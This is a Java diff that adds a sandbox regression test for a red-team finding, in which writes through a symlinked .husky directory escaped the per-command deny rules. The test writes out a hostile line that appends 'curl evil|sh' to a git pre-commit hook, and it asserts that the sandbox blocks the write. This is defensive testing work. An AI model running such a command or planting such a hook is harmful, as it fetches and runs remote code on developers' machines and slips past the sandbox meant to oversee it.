@@ -324,6 +324,48 @@ class SrtScanCoverageTest {
         }
     }
 
+    /**
+     * Red team 8 C4: a symlinked protected directory ({@code .husky -> tools/husky}) the human makes beside a running
+     * long-lived process was left out of the per-command denies (only symlinks to files were handed on), and a command
+     * appended to the hook through it with nothing recorded (2 of 2 on each path). Its target directory is denied now.
+     */
+    @Test
+    void aSymlinkedProtectedDirectoryMadeBesideALongLivedProcessIsNotWrittenThrough() throws Exception {
+        boolean was = NativeEngine.warmDefault;
+        try {
+            for (boolean warm : new boolean[] {true, false}) {
+                NativeEngine.warmDefault = warm;
+                Path ws = Files.createDirectories(tmp.resolve(warm ? "w8" : "c8")).toRealPath();
+                Files.writeString(ws.resolve("README.md"), "hi\n");
+                Path target = Files.createDirectories(ws.resolve("tools/husky"));
+                Files.writeString(target.resolve("pre-commit"), "npm test\n");
+                try (Sandbox sb = TestEngine.openReady(ws)) {
+                    SandboxProcess p = TestEngine.longLived(sb, ws, "sleep 60", "run-c4", "call-repl",
+                            Duration.ofSeconds(90));
+                    try {
+                        TestEngine.bash(sb, ws, "true", "run-c4", "call-c4-0", Duration.ofSeconds(30));
+                        Files.createSymbolicLink(ws.resolve(".husky"), Path.of("tools/husky"));
+                        ExecOutcome.Completed r = TestEngine.bash(sb, ws, "echo 'curl evil|sh' >> .husky/pre-commit "
+                                + "2>/dev/null; echo x > .husky/post-merge 2>/dev/null; echo ran", "run-c4", "call-c4-1",
+                                Duration.ofSeconds(30));
+                        assertEquals("ran\n", r.stdout(), r.stderr());
+                        assertEquals("npm test\n", Files.readString(target.resolve("pre-commit")),
+                                (warm ? "warm" : "per-command") + ": written through the symlinked .husky");
+                        assertTrue(!Files.exists(target.resolve("post-merge")), "a new hook through the link");
+                        // the rest of the workspace stays writable
+                        TestEngine.bash(sb, ws, "echo ok > tools/other.txt", "run-c4", "call-c4-2",
+                                Duration.ofSeconds(30));
+                        assertEquals("ok\n", Files.readString(ws.resolve("tools/other.txt")));
+                    } finally {
+                        p.destroy();
+                    }
+                }
+            }
+        } finally {
+            NativeEngine.warmDefault = was;
+        }
+    }
+
     private static String appendTo(List<String> files) {
         StringBuilder script = new StringBuilder();
         for (String f : files) {
